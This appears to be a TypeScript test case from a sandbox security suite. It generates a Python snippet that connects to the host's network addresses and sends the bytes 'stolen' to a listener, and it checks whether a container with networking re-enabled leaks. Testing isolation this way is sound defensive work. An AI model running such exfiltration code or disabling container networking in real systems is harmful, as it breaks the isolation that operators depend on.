import { once } from 'node:events';
import { createServer, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { breachInLog, type Attack } from '../support/attack.js';
import { trainWith } from './programs.js';

const PORT = 47_113;

/** Knocks at every address of this machine that a container could have a way to. */
function knocking(): string {
  const addresses = Object.values(networkInterfaces())
    .flat()
    .flatMap((place) => (place?.family === 'IPv4' && !place.internal ? [place.address] : []));
  return `import socket
for host in ${JSON.stringify(addresses)}:
    try:
        socket.create_connection((host, ${PORT}), timeout=2).sendall(b"stolen")
        print("breach: reached", host)
    except OSError as error:
        print(host, error)`;
}

async function listen() {
  let knocks = 0;
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    knocks++;
    sockets.add(socket.on('error', () => undefined));
  });
  server.listen(PORT, '0.0.0.0');
  await once(server, 'listening');
  return {
    seen: () => Promise.resolve(`${knocks} knocks`),
    close: async () => {
      sockets.forEach((socket) => socket.destroy());
      server.close();
      await once(server, 'close');
    },
  };
}

export const network: Attack[] = [
  {
    threat: 'Network exfiltration',
    name: 'train sends data to a listener on the host',
    submission: trainWith(knocking()),
    control: 'no network',
    weakness: {
      container: ({ NetworkDisabled: _off, ...options }) => ({
        ...options,
        HostConfig: { ...options.HostConfig, NetworkMode: 'bridge' },
      }),
    },
    watch: listen,
    gained: (run) => breachInLog(run) ?? (run.seen === '0 knocks' ? null : run.seen),
    ends: 'CRASHED',
  },
];
